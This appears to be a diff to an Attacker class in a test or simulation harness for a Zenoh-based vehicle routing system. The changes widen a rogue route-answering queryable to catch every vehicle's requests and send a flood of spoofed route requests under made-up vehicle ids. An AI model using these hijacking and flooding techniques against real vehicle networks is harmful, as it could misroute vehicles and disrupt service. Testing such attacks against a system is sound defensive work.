@@ -163,7 +163,7 @@ class Attacker:
         complete, so a querier on Zenoh's default target (the best matching queryable: a complete one
         when there is one) would ask only the rogue."""
         rogue = RogueRoutes(answer)
-        key = get_stream("route_rpc").key()
+        key = get_stream("route_rpc").pattern()  # every vehicle's requests
         self._declared.append(self.session.declare_queryable(key, rogue.on_query, complete=True))
         return rogue
 
@@ -171,7 +171,7 @@ class Attacker:
         self, vehicle_ids: list[str], lane: str, destination: str, timeout_s: float, flood: RequestFlood
     ) -> None:
         """One RouteRequest per made-up id, sent without waiting for replies (counted in `flood`)."""
-        key = get_stream("route_rpc").key()
+        rpc = get_stream("route_rpc")
         for seq, vid in enumerate(vehicle_ids, start=1):
             req = RouteRequest(vehicle_id=vid, current_lane_id=lane, destination_junction_id=destination)
             req.header.source_id = f"vehicles/{vid}"
@@ -179,7 +179,7 @@ class Attacker:
             req.header.stamp.FromNanoseconds(time.time_ns())
             encoded = encode(req)
             self.session.get(
-                key,
+                rpc.key(vehicle=vid),
                 zenoh.handlers.Callback(flood.on_reply, flood.on_done),
                 payload=encoded.payload,
                 encoding=encoded.encoding,
